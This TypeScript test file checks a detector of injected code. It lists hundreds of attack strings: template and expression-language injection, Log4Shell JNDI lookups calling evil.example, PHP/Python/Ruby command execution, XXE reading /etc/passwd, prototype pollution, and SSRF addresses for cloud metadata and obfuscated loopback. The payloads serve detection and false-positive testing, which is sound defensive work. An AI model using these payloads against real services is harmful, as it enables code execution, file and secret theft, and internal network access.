// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attackers write these signs, nothing is to be filled in.
import { expect, test } from "bun:test";
import { foundBy } from "../testing/inspect.ts";
import { codePatterns } from "./all-patterns.ts";
import { platformPatterns } from "./code-patterns.ts";
import { hostNumber, mappedNumber } from "./code-requests.ts";

const missed = (texts: readonly string[]): string[] =>
  texts.filter((text) => foundBy(codePatterns, text).length === 0);
const hit = (texts: readonly string[]): string[] =>
  texts.filter((text) => foundBy(codePatterns, text).length > 0);

test("templates, expressions and objects that would be run are found", () => {
  expect(missed(expressions)).toEqual([]);
});

test("code of PHP, JavaScript, Python, Ruby and addresses of the server itself are found", () => {
  expect(missed(programs)).toEqual([]);
});

test("placeholders, mathematics, stack traces and talk about code are no code", () => {
  expect(hit(honest)).toEqual([]);
});

const honest = [
  "Hello {{name}}, your order {{ order.number }} is ready",
  "f(x) = 2*x + 1, so f(49) is 99",
  "linear, $O(n)$ time",
  "java.lang.NullPointerException at java.lang.Thread.run(Thread.java:840)",
  "the files (yep) and the system (old)",
  "ecosystem() is a word; so is exec (",
  "We mail (cn) the header ([#12](https://example.com/12))",
  "while (foo) is bar.",
  "process. console. prototype",
  "see http://example.com:3000/ or http://localhost:3000/setup",
  "data:image/png;base64,iVBORw0KGgo=",
  "costs US$5(five)",
];

const expressions = [
  "{{7*7}}",
  "{{7*'7'}}",
  "${7*7}",
  "#{7*7}",
  "*{7*7}",
  "<%= 7*7 %>",
  "<%= system('id') %>",
  "<%= File.open('/etc/passwd').read %>",
  "${{7*7}}",
  "@(1+2)",
  "@(6+5)",
  "{{config}}",
  "{{config.items()}}",
  "{{self}}",
  "{{''.__class__.__mro__[2].__subclasses__()}}",
  "{{request.application.__globals__}}",
  "{{lipsum.__globals__['os'].popen('id').read()}}",
  "{{cycler.__init__.__globals__.os.popen('id')}}",
  "{%for c in [1,2,3]%}{{c,c,c}}{%endfor%}",
  "{% import os %}{{os.popen('id')}}",
  '{{_self.env.registerUndefinedFilterCallback("exec")}}',
  "{{['id']|filter('system')}}",
  "{{dump(app)}}",
  "{php}echo `id`;{/php}",
  "{system('id')}",
  "{$smarty.version}",
  "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  "${T(java.lang.System).getenv()}",
  "*{T(java.lang.Runtime).getRuntime().exec('id')}",
  "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
  "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
  "redirect:${#a}",
  "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
  "${jndi:ldap://evil.example/a}",
  "${${lower:j}ndi:ldap://evil.example/a}",
  "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
  "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://x/a}",
  "${jndi:${lower:l}${lower:d}ap://x}",
  "${j${k8s:k5:-ND}i:ldap://x}",
  "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
  "http://wiki.corp/admin",
  "${url:UTF-8:http://evil.example}",
  "${dns:address|evil.example}",
  "${env:AWS_SECRET_ACCESS_KEY}",
  'java.lang.Runtime.getRuntime().exec("id")',
  'new java.lang.ProcessBuilder("id").start()',
  "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA",
  "AAEAAAD/////AQAAAAAAAAA",
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  'a:1:{i:0;O:4:"Evil":0:{}}',
  'C:11:"ArrayObject":37:{x:i:0;}',
  "__proto__[admin]=1",
  "constructor.prototype.x",
  "constructor[prototype][x]",
  '{"__proto__":{"x":1}}',
  "require('child_process').exec('id')",
  'require("fs").readFileSync("/etc/passwd")',
  "process.mainModule.require('child_process')",
  "global.process.mainModule.constructor._load('child_process')",
  "process.env.SECRET",
  'eval("1+1")',
  "eval(atob('YQ=='))",
  'new Function("return 1")()',
  'Function("return this")()',
  'this.constructor.constructor("return process")()',
  "_$$ND_FUNC$$_function (){return 1}()",
  "(function(){return 1})()",
  "res.end(require('fs').readdirSync('.').toString())",
  "while(1){}",
  "while(true);",
  "for(;;){}",
  "process.kill(process.pid)",
  "process.exit()",
  "console.log(1)",
  "system('id')",
  'system("cat /etc/passwd")',
  "exec('id');",
  "passthru('id')",
  "shell_exec('id')",
  "popen('id','r')",
  "phpinfo()",
  "phpinfo();",
  "<?php phpinfo(); ?>",
  "<?= `id` ?>",
  "<?=system($_GET[0])?>",
  "<? system('id');",
  "eval($_POST['x']);",
];

const programs = [
  "assert($_REQUEST['x'])",
  "preg_replace('/x/e','system(\"id\")','')",
  "create_function('','id')",
  "call_user_func('system','id')",
  "array_map('system',array('id'))",
  "base64_decode('aWQ=')",
  "file_get_contents('/etc/passwd')",
  "file_put_contents('x.php','x')",
  "fopen('/etc/passwd','r')",
  "include('http://evil.example/x')",
  "include($_GET['x'])",
  "require_once('/etc/passwd')",
  "print(md5(1))",
  "print_r(scandir('.'))",
  "var_dump(1)",
  "echo(md5(123));",
  "die(md5(1))",
  "die('x')",
  "${@print(md5(1))}",
  "${phpinfo()}",
  "{${phpinfo()}}",
  "'.phpinfo().'",
  "'.print(md5(1)).'",
  "$a='sys'.'tem';$a('id');",
  "$_GET['a']($_GET['b'])",
  "$f('x')",
  "('sys'.'tem')('id')",
  '"system"("id")',
  "chr(115).chr(121)",
  "@eval($x)",
  "ini_set('allow_url_include',1)",
  "allow_url_include=1",
  "auto_prepend_file=php://input",
  "-d allow_url_include=on -d auto_prepend_file=php://input",
  "__import__('os').system('id')",
  "import os;os.system('id')",
  "exec(compile('x','','exec'))",
  "os.popen('id').read()",
  "subprocess.check_output('id',shell=True)",
  "().__class__.__bases__[0]",
  "open('/etc/passwd').read()",
  "Kernel.exec('id')",
  "IO.popen('id')",
  "%x(id)",
  "File.read('/etc/passwd')",
  "#{`id`}",
  "#{system('id')}",
  'Process.spawn("id")',
  "@{[system 'id']}",
  "qx/id/",
  '<!--#exec cmd="id" -->',
  '<!--#include virtual="/etc/passwd" -->',
  '<esi:include src="http://evil.example"/>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  '<!ENTITY % x SYSTEM "http://evil.example">',
  "http://169.254.169.254/latest/meta-data/",
  "http://[::ffff:169.254.169.254]/",
  "http://2852039166/",
  "http://0xa9fea9fe/",
  "http://0251.0376.0251.0376/",
  "http://metadata.google.internal/computeMetadata/v1/",
  "http://100.100.100.200/latest",
  "http://127.0.0.1/",
  "http://127.0.0.1:22",
  "http://127.0.0.1:6379/",
  "http://127.1/",
  "http://2130706433/",
  "http://0x7f000001/",
  "http://017700000001/",
  "http://0/",
  "http://0.0.0.0/",
  "http://[::1]/",
  "http://[::]/",
  "http://[0:0:0:0:0:ffff:127.0.0.1]/",
  "http://localhost/admin",
  "http://localhost:22/",
  "http://evil@127.0.0.1/",
  "http://127.0.0.1.nip.io/",
  "http://localtest.me/",
  "http://\u2460\u2461\u2466.\u24ea.\u24ea.\u2460/",
  "http://1\uff127.0.0.1/",
  "gopher://127.0.0.1:6379/_x",
  "dict://127.0.0.1:11211/",
  "http:127.0.0.1",
  "http:/127.0.0.1/",
  "http:\\\\127.0.0.1\\",
  "http://kubernetes.default.svc/",
  "localhost/",
  "127.0.0.1/admin",
];

const isPlatformCode = (text: string): boolean => foundBy(platformPatterns, text).length > 0;

const platformCode = [
  'System.Diagnostics.Process.Start("cmd.exe")',
  'CreateObject("WScript.Shell").Run("calc.exe")',
  'Execute(Request("x"))',
  '@Html.Raw("x")',
  "@using System.IO",
  "\\immediate\\write18{id}",
  "\\input{/etc/hosts}",
  '"id".execute().text',
  "['sh','-c','id'].execute()",
  'Eval.me("1+1")',
  "@Grab('evil:evil:1')",
  '"id".!',
  ":os.cmd('id')",
  'System.cmd("id",[])',
  "os.execute('id')",
  'Deno.run({cmd:["id"]})',
  'Bun.spawn(["id"])',
  'Code.eval_string("x")',
  "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
  "jdbc:mysql://evil.example/x?autoDeserialize=true",
  'system "id";',
  "use IO::Socket;",
  "require 'open3'",
  'Object.send(:system,"ls")',
  "open('|id')",
  "array_filter(['id'],'system')",
  "(phpinfo)()",
  "'.system(\"id\").'",
  "time.sleep(5)",
  "globals()['os']",
  "from os import popen",
  'commands.getoutput("id")',
];

const platformWords = [
  "The system 'Alpha' is down; please help",
  "I set the @media rule and it works",
  "We use it; they require it",
  "jdbc:postgresql://db.example.com:5432/app",
  "open the door (please)",
  "import os is what I wrote first",
  "Who can execute (and sign) it?",
  "Write to @using it",
];

test("code for other platforms is found", () => {
  expect(platformCode.filter((text) => !isPlatformCode(text))).toEqual([]);
});

test("addresses of databases and sentences with the same words are no code", () => {
  expect(platformWords.filter(isPlatformCode)).toEqual([]);
});

test("every writing of an address stands for the same number", () => {
  for (const host of [
    "127.0.0.1",
    "127.1",
    "0x7f000001",
    "2130706433",
    "017700000001",
    "0177.0.0.1",
    "127.0.1",
    "127.0.0.1.",
  ]) {
    expect([host, hostNumber(host)]).toEqual([host, 0x7f000001]);
  }
  for (const host of ["::1", "::ffff:127.0.0.1", "::ffff:7f00:1", "0:0:0:0:0:ffff:127.0.0.1"]) {
    expect([host, mappedNumber(host)]).toEqual([host, 0x7f000001]);
  }
});

test("names are no numbers", () => {
  expect(["example.com", "1.2.3.4.5", "a.1", "0xzz"].map(hostNumber)).toEqual([null, null, null, null]);
  expect(mappedNumber("2001:db8::1")).toBeNull();
});
